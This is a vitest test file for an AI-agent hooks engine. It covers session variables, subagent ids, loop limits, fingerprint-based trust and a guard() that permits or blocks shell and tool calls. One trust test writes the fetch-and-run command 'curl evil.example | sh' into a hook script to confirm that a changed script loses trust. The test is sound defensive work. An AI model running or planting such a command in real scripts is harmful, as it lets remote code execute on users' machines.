// One conversation through the engine: ids, variables, loops, subagents, and guard().

import { appendFileSync, existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setImmediate } from 'node:timers/promises'
import { HookBlockedError, type OnAsk } from '@holdfast/hooks'
import type { HookDefinition } from '@holdfast/hooks/protocol'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { isAlive, script, trustShown, until, Workspace } from '../fixtures/workspace.js'

let space: Workspace
beforeEach(() => {
  space = new Workspace()
})
afterEach(() => space.close())

const say = (answer: unknown) => `printf '%s' '${JSON.stringify(answer)}'`

describe('session variables', () => {
  it('flow down, never up, and never touch the fixed names', async () => {
    space.use('prints-variables.sh')
    const prints = join(space.root, '.cursor/hooks/prints-variables.sh')
    const env = (more: object) => say({ env: more })
    space.enterpriseHooks({
      sessionStart: [{ command: env({ SESSION_A: 'enterprise' }) }],
      beforeShellExecution: [{ command: prints }],
    })
    space.user({
      sessionStart: [{ command: env({ SESSION_A: 'user', SESSION_B: 'user', CURSOR_PROJECT_DIR: '/evil' }) }],
      beforeShellExecution: [{ command: prints }],
    })
    const hooks = await space.open()
    const session = await hooks.startSession()
    expect(session.started!.env).toEqual({ SESSION_A: 'enterprise', SESSION_B: 'user' })
    const verdict = await session.fire('beforeShellExecution', { command: 'ls' })
    expect(verdict.userMessage!.split('\n\n')).toEqual([
      `enterprise||${space.root}|${space.enterprise}`,
      `enterprise|user|${space.root}|${join(space.home, '.cursor')}`,
    ])
    // Another conversation does not have them.
    const other = await hooks.fire('beforeShellExecution', { command: 'ls' })
    expect(other.userMessage).toContain(`||${space.root}`)
  })

  it('that no process can have keep no hook from starting', async () => {
    const impossible = { A: 'x\0y', 'B=C': 'x', 'D\0': 'x', '': 'x', E: 'x'.repeat(200_000), FINE: 'yes' }
    space.write('.cursor/answer.json', JSON.stringify({ env: impossible }))
    space.project({
      sessionStart: [{ command: 'cat .cursor/answer.json' }],
      beforeShellExecution: [{ command: `printf '{"permission":"deny","user_message":"%s"}' "$FINE"` }],
    })
    const session = await (await space.open()).startSession()
    const verdict = await session.fire('beforeShellExecution', { command: 'ls', transcript_path: 'a\0b' })
    expect(verdict).toMatchObject({ permission: 'deny', userMessage: 'yes' })
  })

  it('reach subagents', async () => {
    space.use('prints-variables.sh')
    space.project({
      sessionStart: [{ command: say({ env: { SESSION_A: '1' } }) }],
      beforeShellExecution: [{ command: script('prints-variables.sh') }],
    })
    const session = await (await space.open()).startSession()
    const verdict = await session.subagent().fire('beforeShellExecution', { command: 'ls' })
    expect(verdict.userMessage).toMatch(/^1\|/)
  })
})

describe('ids', () => {
  it('follow the conversation, the message and the subagent', async () => {
    const seen: Record<string, unknown>[] = []
    const hooks = await space.open()
    for (const event of [
      'sessionStart',
      'beforeSubmitPrompt',
      'beforeShellExecution',
      'sessionEnd',
    ] as const) {
      hooks.register({ event, run: payload => void seen.push(payload) })
    }
    const session = await hooks.startSession({ model: 'fast', conversationId: 'c1' })
    await session.fire('beforeSubmitPrompt', { prompt: 'one' })
    await session.fire('beforeShellExecution', { command: 'ls' })
    await session.fire('beforeSubmitPrompt', { prompt: 'two' })
    const child = session.subagent()
    await child.fire('beforeShellExecution', { command: 'ls' })
    await session.end({ reason: 'user_close' })
    const [start, one, shell, two, inside, end] = seen
    expect(start).toMatchObject({ conversation_id: 'c1', session_id: 'c1', generation_id: '', model: 'fast' })
    expect(one!.generation_id).not.toBe('')
    expect(shell!.generation_id).toBe(one!.generation_id)
    expect(two!.generation_id).not.toBe(one!.generation_id)
    expect(inside!.conversation_id).toBe(child.conversationId)
    expect(inside!.conversation_id).not.toBe('c1')
    expect(child.parent).toBe(session)
    expect(inside).toMatchObject({ parent_conversation_id: 'c1' })
    expect(shell).not.toHaveProperty('parent_conversation_id')
    expect(end).toMatchObject({ reason: 'user_close', generation_id: '', conversation_id: 'c1' })
  })
})

describe('a session that began elsewhere', () => {
  it('fires nothing by itself, and has its own variables', async () => {
    space.project({
      sessionStart: [{ command: `echo '{"env":{"SHOP_MODE":"strict"}}'` }],
      beforeShellExecution: [
        { command: 'echo "{\\"permission\\":\\"allow\\",\\"user_message\\":\\"$SHOP_MODE.\\"}"' },
      ],
    })
    const hooks = await space.open()
    const session = hooks.resumeSession({ conversationId: 'c7' })
    expect(session.conversationId).toBe('c7')
    expect(hooks.log()).toEqual([])
    const mode = async (one: typeof session) =>
      (await one.fire('beforeShellExecution', { command: 'ls' })).userMessage
    expect(await mode(session)).toBe('.')
    await session.fire('sessionStart', {})
    expect(await mode(session)).toBe('strict.')
    expect(await mode(hooks.resumeSession({ conversationId: 'c7' }))).toBe('.')
  })
})

describe('chosen hooks', () => {
  it('run alone, as they were chosen', async () => {
    space.project({
      beforeShellExecution: [
        { command: 'exit 2' },
        { command: `echo '{"permission":"ask"}'`, matcher: '^never$' },
        { command: 'sleep 30' },
      ],
    })
    const hooks = await space.open()
    const only = (index: number, over = {}) => ({
      choose: (all: readonly HookDefinition[]) => [{ ...all[index]!, ...over }],
    })
    const fields = { command: 'ls' }
    const asked = await hooks.fire('beforeShellExecution', fields, only(1, { matcher: { kind: 'all' } }))
    expect(asked).toMatchObject({ permission: 'ask', skipped: [] })
    const skipped = await hooks.explain('beforeShellExecution', fields, only(1))
    expect(skipped).toMatchObject({ hooks: [], skipped: [{ reason: 'matcher' }] })
    const late = await hooks.fire('beforeShellExecution', fields, only(2, { timeoutMs: 50 }))
    expect(late.runs).toMatchObject([{ outcome: { kind: 'failed', failure: { code: 'run/timeout' } } }])
    expect((await hooks.fire('beforeShellExecution', fields, { choose: () => [] })).runs).toEqual([])
  })

  it('are trusted or not as they are on disk at that moment', async () => {
    space.use('deny.sh')
    space.project({ beforeShellExecution: [{ command: script('deny.sh') }] })
    const hooks = await space.open({ trustAll: false })
    await trustShown(hooks)
    appendFileSync(join(space.root, script('deny.sh')), '# more\n')
    const choose = (all: readonly HookDefinition[]) => all
    const verdict = await hooks.fire('beforeShellExecution', { command: 'ls' }, { choose })
    expect(verdict).toMatchObject({ runs: [], skipped: [{ reason: 'untrusted' }] })
  })
})

describe('a script that changes while an earlier hook runs', () => {
  const later = '#!/bin/sh\necho ran >> "$LOG"\n'
  const change = (path: string) => ({ command: `sleep 0.1; echo '# more' >> ${path}; echo '{}'` })

  it.each([
    ['one after the other', 'cursor-1.7', 1],
    ['more than start at once', 'holdfast', 40],
  ] as const)('does not run when the changed one is not trusted: %s', async (_, profile, count) => {
    const path = space.write('.cursor/later.sh', later)
    const first = count === 1 ? [change(path)] : Array.from({ length: count }, () => ({ command: 'true' }))
    space.project({ beforeShellExecution: [...first, { command: '.cursor/later.sh' }] })
    const log = join(space.base, 'log')
    const hooks = await space.open({ trustAll: false, profile, env: { ...process.env, LOG: log } })
    await trustShown(hooks)
    if (count > 1) {
      // A function of the highest source changes the script before all others.
      const run = () => appendFileSync(path, '# more\n')
      hooks.register({ event: 'beforeShellExecution', source: 'enterprise', run })
    }
    const verdict = await hooks.fire('beforeShellExecution', { command: 'ls' })
    expect(existsSync(log)).toBe(false)
    const { hook, reason } = verdict.skipped.at(-1)!
    expect([hook.command, reason]).toEqual(['.cursor/later.sh', 'untrusted'])
  })
})

describe('trust by fingerprint', () => {
  it('is for the root that was shown, also if another root has the same hooks', async () => {
    const roots = ['one', 'two'].map(name => join(space.root, name))
    for (const root of roots) {
      mkdirSync(join(root, '.cursor'), { recursive: true })
      writeFileSync(join(root, '.cursor/hooks.json'), '{"hooks":{"stop":[{"command":"exit 2"}]}}')
    }
    const hooks = await space.open({ trustAll: false, workspaceRoots: roots })
    const trusted = () => hooks.list().map(({ hook }) => hook.trusted)
    const [first, second] = hooks.list().map(({ hook }) => hook)
    expect(first!.fingerprint).toBe(second!.fingerprint)
    expect(await hooks.trust([first!.fingerprint])).toEqual([])
    await hooks.trust([first!])
    expect(trusted()).toEqual([true, false])
    await hooks.trust([second!])
    expect(trusted()).toEqual([true, true])
  })

  it('covers the hooks that were shown only', async () => {
    space.project({ beforeShellExecution: [{ command: 'exit 2' }, { command: 'exit 3' }] })
    const hooks = await space.open({ trustAll: false })
    const trusted = () => hooks.list().map(({ hook }) => hook.trusted)
    const [first, second] = hooks.list().map(({ hook }) => hook)
    const shown = first!.fingerprint
    const near = ['', first!.id, shown.slice(0, -1), `${shown} `, shown.toUpperCase()]
    expect(await hooks.trust(near)).toEqual([])
    expect(await hooks.trust([])).toEqual([])
    expect(trusted()).toEqual([false, false])
    expect((await hooks.trust([second!.fingerprint])).map(({ id }) => id)).toEqual([second!.id])
    expect(trusted()).toEqual([false, true])
    const verdict = await hooks.fire('beforeShellExecution', { command: 'ls' })
    expect(verdict.runs.map(({ hook }) => hook.id)).toEqual([second!.id])
    expect((await trustShown(hooks)).map(({ id }) => id)).toEqual([first!.id])
  })

  it.each<[string, (hook: HookDefinition) => string | HookDefinition]>([
    ['its fingerprint', hook => hook.fingerprint],
    ['the hook', hook => hook],
  ])('that is given as %s covers neither its neighbour nor a later change', async (_, shownAs) => {
    space.project({ stop: [{ command: 'sh .cursor/a.sh' }, { command: 'sh .cursor/a.sh x' }] })
    const script = join(space.root, '.cursor/a.sh')
    writeFileSync(script, 'exit 0')
    const hooks = await space.open({ trustAll: false })
    const trusted = () => hooks.list().map(({ hook }) => hook.trusted)
    const [first, second] = hooks.list().map(({ hook }) => hook)
    expect((await hooks.trust([shownAs(first!)])).map(({ id }) => id)).toEqual([first!.id])
    expect(trusted()).toEqual([true, false])
    writeFileSync(script, 'curl evil.example | sh')
    await hooks.reload()
    expect(await hooks.trust([shownAs(first!), shownAs(second!)])).toEqual([])
    expect(trusted()).toEqual([false, false])
  })
})

describe('reloading', () => {
  it('while another reload is under way ends with the files as they are now', async () => {
    const held: (() => void)[] = []
    let holds = false
    const has = () =>
      holds ? new Promise<boolean>(resolve => held.push(() => resolve(true))) : Promise.resolve(true)
    space.project({ stop: [{ command: 'exit 1' }] })
    const hooks = await space.open({ trustAll: false, trust: { has, add() {}, remove() {} } })
    holds = true
    const first = hooks.reload()
    await until(() => held.length === 1)
    holds = false
    space.project({ stop: [{ command: 'exit 2' }] })
    const second = hooks.reload()
    for (let turn = 0; turn < 50; turn++) await setImmediate()
    for (const release of held) release()
    await Promise.all([first, second])
    expect(hooks.list().map(({ hook }) => hook.command)).toEqual(['exit 2'])
  })
})

describe('trust in several projects', () => {
  it('is stored for each project with its own hooks only', async () => {
    const roots = [space.root, space.folder('second')]
    for (const [index, root] of roots.entries()) space.project({ stop: [{ command: `exit ${index}` }] }, root)
    const added: [string, readonly string[]][] = []
    const trust = {
      has: () => false,
      add: (...args: (typeof added)[0]) => void added.push(args),
      remove() {},
    }
    const hooks = await space.open({ workspaceRoots: roots, trustAll: false, trust })
    const definitions = hooks.list().map(({ hook }) => hook)
    expect(new Set(definitions.map(({ fingerprint }) => fingerprint)).size).toBe(2)
    await trustShown(hooks)
    expect(added).toEqual(definitions.map(({ root, fingerprint }) => [root, [fingerprint]]))
  })
})

describe('an end that nobody can wait for', () => {
  const log = () => join(space.base, 'log')
  const lines = () => space.read(log()).trim().split('\n')
  const keep = `#!/bin/sh\nprintf '%s %s\\n' "$TEAM" "$(cat)" >> "$LOG"\n`

  it('has its hooks run when it returns, one after the other, with payload and variables', async () => {
    space.write('.cursor/keep.sh', keep)
    space.project({
      sessionStart: [{ command: say({ env: { TEAM: 'blue', LOG: log() } }) }],
      sessionEnd: [
        { command: '.cursor/keep.sh' },
        // Processes that it leaves running, with its pipes open, delay nothing.
        {
          command: 'sleep 60 & echo "$TEAM second" >> "$LOG"; echo $! >> "$LOG"; echo noise; echo noise >&2',
        },
        { command: 'exit 1' },
        { command: 'echo never >> "$LOG"', matcher: '^completed$' },
      ],
    })
    const hooks = await space.open()
    const seen: unknown[] = []
    hooks.register({ event: 'sessionEnd', run: ({ reason }) => void seen.push(reason) })
    const session = await hooks.startSession({ conversationId: 'c1' })
    session.endSync({ reason: 'error', error_message: 'boom' })
    const [first, second, helper, ...rest] = lines()
    expect(isAlive(Number(helper))).toBe(true)
    process.kill(Number(helper), 'SIGKILL')
    expect(rest).toEqual([])
    expect(second).toBe('blue second')
    expect(first!.startsWith('blue ')).toBe(true)
    expect(JSON.parse(first!.slice(5))).toMatchObject({
      hook_event_name: 'sessionEnd',
      conversation_id: 'c1',
      reason: 'error',
      error_message: 'boom',
      generation_id: '',
    })
    expect(seen).toEqual(['error'])
    const runs = hooks.log().filter(({ event }) => event === 'sessionEnd')
    expect(runs.map(({ exit_code }) => exit_code)).toEqual([0, 0, 1, 0])
  })

  it('gives every function a payload of its own', async () => {
    const hooks = await space.open()
    const seen: unknown[] = []
    for (let i = 0; i < 2; i++) {
      const run = (payload: Record<string, unknown>) => {
        seen.push(payload.reason)
        payload.reason = 'changed'
      }
      hooks.register({ event: 'sessionEnd', run })
    }
    const session = await hooks.startSession()
    session.endSync({ reason: 'error' })
    expect(seen).toEqual(['error', 'error'])
  })

  it('keeps the time limit, and ends what does not', async () => {
    // A third line would show that the hook received a signal to end, which it may ignore.
    space.project({
      sessionEnd: [
        {
          command: `trap 'echo asked >> ${log()}' TERM; echo $$ > ${log()}; sleep 600 & echo $! >> ${log()}; wait`,
          timeout: 0.3,
        },
      ],
    })
    const hooks = await space.open()
    const session = await hooks.startSession()
    session.endSync()
    expect(lines()).toHaveLength(2)
    await until(() => !lines().map(Number).some(isAlive))
    expect(hooks.log()).toMatchObject([{ failure: 'run/timeout' }])
  })

  it('records a source that changed as failed', async () => {
    space.write('.cursor/keep.sh', keep)
    space.project({ sessionEnd: [{ command: '.cursor/keep.sh' }] })
    const hooks = await space.open({ trustAll: false, env: { ...process.env, LOG: log() } })
    await trustShown(hooks)
    const session = await hooks.startSession()
    appendFileSync(join(space.root, '.cursor/keep.sh'), '# more\n')
    session.endSync()
    expect(() => lines()).toThrow('ENOENT')
    expect(hooks.log()).toMatchObject([{ hook: '.cursor/keep.sh', failure: 'run/spawn' }])
  })

  it('records a command that is not there and a model as failed', async () => {
    space.project({
      sessionEnd: [{ command: './nowhere' }, { type: 'prompt', prompt: 'Was it good?' }],
    })
    const hooks = await space.open()
    const session = await hooks.startSession()
    session.endSync()
    expect(hooks.log()).toMatchObject([
      { hook: './nowhere', failure: 'run/not-found' },
      { hook: 'Was it good?', failure: 'run/no-evaluator' },
    ])
  })

  it('is an error after closing', async () => {
    const hooks = await space.open()
    const session = await hooks.startSession()
    hooks.close()
    expect(() => session.endSync()).toThrow('The engine was closed.')
  })
})

describe('loops', () => {
  it('count follow-ups since the last message of the user', async () => {
    space.project({ stop: [{ command: say({ followup_message: 'go on' }), loop_limit: 2 }] })
    const session = await (await space.open()).startSession()
    const stop = async () => (await session.fire('stop', {})).followupMessage
    expect([await stop(), await stop(), await stop()]).toEqual(['go on', 'go on', null])
    expect(session.loopCount).toBe(2)
    await session.fire('beforeSubmitPrompt', { prompt: 'go on' }, { automatic: true })
    expect(await stop()).toBeNull()
    await session.fire('beforeSubmitPrompt', { prompt: 'my own words' })
    expect(await stop()).toBe('go on')
  })

  it('count for each subagent apart', async () => {
    space.project({ subagentStop: [{ command: say({ followup_message: 'more' }), loop_limit: 1 }] })
    const session = await (await space.open()).startSession()
    const fields = { subagent_type: 'explore' }
    const first = session.subagent()
    expect((await first.fire('subagentStop', fields)).followupMessage).toBe('more')
    expect((await first.fire('subagentStop', fields)).followupMessage).toBeNull()
    expect((await session.subagent().fire('subagentStop', fields)).followupMessage).toBe('more')
    expect(
      (await session.subagent().fire('subagentStop', { ...fields, status: 'error' })).followupMessage,
    ).toBeNull()
  })
})

describe('guard', () => {
  const open = (answer: unknown, onAsk?: OnAsk) => {
    space.project({
      preToolUse: [{ command: say(answer) }],
      beforeShellExecution: [{ command: say(answer) }],
    })
    return space.open(onAsk ? { onAsk } : {})
  }

  it('returns the call with the keys that a hook replaced', async () => {
    const hooks = await open({ permission: 'allow', updated_input: { command: 'npm ci' } })
    const { tool_input, granted } = await hooks.guard('preToolUse', {
      tool_name: 'Shell',
      tool_input: { command: 'npm install', cwd: '/x' },
    })
    expect(tool_input).toEqual({ command: 'npm ci', cwd: '/x' })
    expect(granted).toBe(true)
  })

  it('throws with the documented texts', async () => {
    const hooks = await open({ permission: 'deny', user_message: 'no', agent_message: 'stop that' })
    const shell = await hooks.guard('beforeShellExecution', { command: 'x' }).catch(error => error)
    expect(HookBlockedError.isInstance(shell)).toBe(true)
    expect(shell.userMessage).toBe('Command execution was blocked by a hook: no')
    expect(shell.agentMessage).toBe('The terminal command was rejected by a hook: stop that')
    const tool = await hooks.guard('preToolUse', { tool_name: 'Shell' }).catch(error => error)
    expect(tool.agentMessage).toBe(
      'Error: stop that\nAgent note: Do not suggest workarounds to the blocked tool.',
    )
  })

  it('gives a blocked prompt its code', async () => {
    space.project({ beforeSubmitPrompt: [{ command: say({ continue: false, user_message: 'secret' }) }] })
    const error = await (await space.open()).guard('beforeSubmitPrompt', { prompt: 'x' }).catch(each => each)
    expect(error).toMatchObject({
      userMessage: 'Submission blocked by hook: secret',
      wireCode: 'ERROR_HOOKS_BLOCKED',
    })
  })

  it('tells of a denied call as a failed one, once', async () => {
    const hooks = await open({ permission: 'deny', agent_message: 'no' })
    const seen: Record<string, unknown>[] = []
    hooks.register({ event: 'postToolUseFailure', run: payload => void seen.push(payload) })
    hooks.register({ event: 'afterShellExecution', run: payload => void seen.push(payload) })
    await hooks.guard('beforeShellExecution', { command: 'rm x', cwd: '/y' }).catch(() => {})
    await hooks.settled()
    expect(seen).toHaveLength(1)
    expect(seen[0]).toMatchObject({
      tool_name: 'Shell',
      tool_input: { command: 'rm x', cwd: '/y' },
      failure_type: 'permission_denied',
    })
  })

  it('tells of a call that was denied inside a subagent who started that one', async () => {
    const hooks = await open({ permission: 'deny' })
    const seen: Record<string, unknown>[] = []
    hooks.register({ event: 'postToolUseFailure', run: payload => void seen.push(payload) })
    const session = hooks.resumeSession({ conversationId: 'c1' })
    const child = session.subagent({ subagentId: 'task-1' })
    const deeper = child.subagent({ subagentId: 'task-2' })
    for (const one of [session, child, deeper]) {
      await one.guard('beforeShellExecution', { command: 'x' }).catch(() => {})
      await one.settled()
    }
    expect(
      seen.map(({ parent_conversation_id, subagent_id }) => [parent_conversation_id, subagent_id]),
    ).toEqual([
      [undefined, undefined],
      ['c1', 'task-1'],
      [child.conversationId, 'task-2'],
    ])
  })

  it('asks one thing at a time, the questions of the host among them', async () => {
    let open = 0
    const order: unknown[] = []
    const answer = async (question: unknown) => {
      expect(++open).toBe(1)
      order.push(question)
      await new Promise(wait => setTimeout(wait, 20))
      open--
      return true
    }
    space.project({ beforeShellExecution: [{ command: say({ permission: 'ask' }) }] })
    const hooks = await space.open({ onAsk: ({ fields }) => answer(fields.command) })
    const first = hooks.ask(() => answer('own'))
    const failing = hooks.ask(async () => {
      throw new Error('no terminal')
    })
    const others = ['a', 'b'].map(command => hooks.guard('beforeShellExecution', { command }))
    expect(await first).toBe(true)
    await expect(failing).rejects.toThrow('no terminal')
    for (const one of others) expect((await one).granted).toBe(true)
    expect(order[0]).toBe('own')
    expect(order.toSorted()).toEqual(['a', 'b', 'own'])
  })

  it('does not wait for an answer that nobody wants any more', async () => {
    const asked: unknown[] = []
    const onAsk: OnAsk = ({ fields }) => {
      asked.push(fields.command)
      return new Promise(() => {})
    }
    space.project({ beforeShellExecution: [{ command: say({ permission: 'ask' }) }] })
    const hooks = await space.open({ onAsk })
    const seen: unknown[] = []
    hooks.register({ event: 'postToolUseFailure', run: payload => void seen.push(payload) })
    const controller = new AbortController()
    const { signal } = controller
    const waiting = ['a', 'b'].map(command => hooks.guard('beforeShellExecution', { command }, { signal }))
    await until(() => asked.length === 1)
    const own = hooks.ask(() => expect.fail('asked after all'), signal)
    controller.abort()
    for (const one of waiting) await expect(one).rejects.toMatchObject({ code: 'use/aborted' })
    expect(await own).toBe(false)
    expect(asked).toHaveLength(1)
    expect(seen).toEqual([])
    // The queue is free again.
    expect(await hooks.ask(() => true)).toBe(true)
  })

  it('asks, and takes anything but yes for a no', async () => {
    const questions: unknown[] = []
    const answers: unknown[] = [true, false, 'yes', undefined]
    const hooks = await open({ permission: 'ask', user_message: 'sure?' }, ({ message }) => {
      questions.push(message)
      return answers.shift() as boolean
    })
    const fields = { command: 'x' }
    expect((await hooks.guard('beforeShellExecution', fields)).granted).toBe(true)
    for (let i = 0; i < 3; i++)
      await expect(hooks.guard('beforeShellExecution', fields)).rejects.toThrow(HookBlockedError)
    expect(questions).toEqual(['sure?', 'sure?', 'sure?', 'sure?'])
  })

  it.each(['close', 'abort'] as const)('does not go on after a yes that comes with a %s', async way => {
    space.project({ beforeShellExecution: [{ command: say({ permission: 'ask' }) }] })
    const controller = new AbortController()
    const end = { close: () => hooks.close(), abort: () => controller.abort() }
    const onAsk: OnAsk = () => {
      end[way]()
      return true
    }
    const hooks = await space.open({ onAsk })
    const { signal } = controller
    await expect(hooks.guard('beforeShellExecution', { command: 'ls' }, { signal })).rejects.toMatchObject({
      code: way === 'close' ? 'use/closed' : 'use/aborted',
    })
  })

  it('denies what nobody can be asked', async () => {
    const hooks = await open({ permission: 'ask' })
    await expect(hooks.guard('preToolUse', { tool_name: 'Shell' })).rejects.toThrow(
      /this host cannot ask the user/,
    )
  })

  it('grants only what the host lets grant', async () => {
    space.project({ beforeShellExecution: [{ command: say({ permission: 'allow' }) }] })
    const hooks = await space.open({ grants: ['enterprise', 'team'] })
    expect((await hooks.guard('beforeShellExecution', { command: 'x' })).granted).toBe(false)
  })
})

/** The engine as a caller without types uses it. */
interface Loose {
  fire(name: string, fields: object): Promise<unknown>
  register(hook: object): unknown
}

describe('wrong use', () => {
  it.each([
    ['an unknown event', (hooks: Loose) => hooks.fire('beforeShell', {}), 'use/unknown-event'],
    ['a missing field', (hooks: Loose) => hooks.fire('beforeShellExecution', {}), 'use/bad-payload'],
    [
      'a field of the wrong type',
      (hooks: Loose) => hooks.fire('stop', { loop_count: 'x' }),
      'use/bad-payload',
    ],
    [
      'a bad matcher',
      async (hooks: Loose) => hooks.register({ event: 'stop', run() {}, matcher: '(' }),
      'use/bad-option',
    ],
    ['no function', async (hooks: Loose) => hooks.register({ event: 'stop' }), 'use/bad-option'],
  ])('%s is an error that says so', async (_, call, code) => {
    const hooks = await space.open()
    await expect(call(hooks as unknown as Loose)).rejects.toMatchObject({ name: 'HooksError', code })
  })

  it.each([
    { timeout: 0 },
    { timeout: -1 },
    { timeout: Number.NaN },
    { timeout: Number.POSITIVE_INFINITY },
    { timeout: '60' },
    { failClosed: 'false' },
    { loopLimit: Number.NaN },
    { loopLimit: '5' },
    { matcher: 5 },
    { command: 'true' },
    { command: 'true', root: 'relative' },
    { run: undefined, type: 'prompt' },
    { source: 'nobody' },
    { source: 'toString' },
    { command: '', root: '/' },
    { command: ' \n', root: '/' },
  ])('a hook with %j is refused', async over => {
    const hooks = await space.open()
    const register = (hooks as unknown as Loose).register
    await expect(async () => register({ event: 'stop', run() {}, ...over })).rejects.toMatchObject({
      code: 'use/bad-option',
    })
    expect(hooks.has('stop')).toBe(false)
  })

  it('after closing', async () => {
    const hooks = await space.open()
    hooks.close()
    await expect(hooks.fire('stop', {})).rejects.toMatchObject({ code: 'use/closed' })
  })

  it('an unknown profile', async () => {
    await expect(space.open({ profile: 'cursor-9' as never })).rejects.toMatchObject({
      code: 'use/unknown-profile',
    })
  })
})

describe('function hooks', () => {
  it('are hooks of any source, with matcher, limit and policy', async () => {
    const hooks = await space.open()
    hooks.register({
      event: 'beforeShellExecution',
      source: 'enterprise',
      matcher: 'rm',
      run: () => ({ permission: 'deny' }),
    })
    hooks.register({
      event: 'beforeMCPExecution',
      timeout: 0.05,
      run: () => new Promise<undefined>(() => {}),
    })
    const stopThrowing = hooks.register({
      event: 'beforeReadFile',
      failClosed: false,
      run: () => {
        throw new Error('broken')
      },
    })
    expect((await hooks.fire('beforeShellExecution', { command: 'ls' })).permission).toBeNull()
    expect((await hooks.fire('beforeShellExecution', { command: 'rm x' })).permission).toBe('deny')
    const slow = await hooks.fire('beforeMCPExecution', { tool_name: 'q' })
    expect(slow).toMatchObject({
      permission: 'deny',
      runs: [{ outcome: { failure: { code: 'run/timeout' } } }],
    })
    const threw = await hooks.fire('beforeReadFile', { file_path: '/a' })
    expect(threw).toMatchObject({
      permission: null,
      runs: [{ outcome: { failure: { code: 'run/threw', message: 'broken' } } }],
    })
    stopThrowing()
    expect(hooks.has('beforeReadFile')).toBe(false)
  })

  it('cannot change the payload of the others', async () => {
    const hooks = await space.open()
    const seen: unknown[] = []
    hooks.register({
      event: 'beforeShellExecution',
      run: payload => {
        payload.command = 'changed'
      },
    })
    hooks.register({ event: 'beforeShellExecution', run: payload => void seen.push(payload.command) })
    await hooks.fire('beforeShellExecution', { command: 'ls' })
    expect(seen).toEqual(['ls'])
  })
})
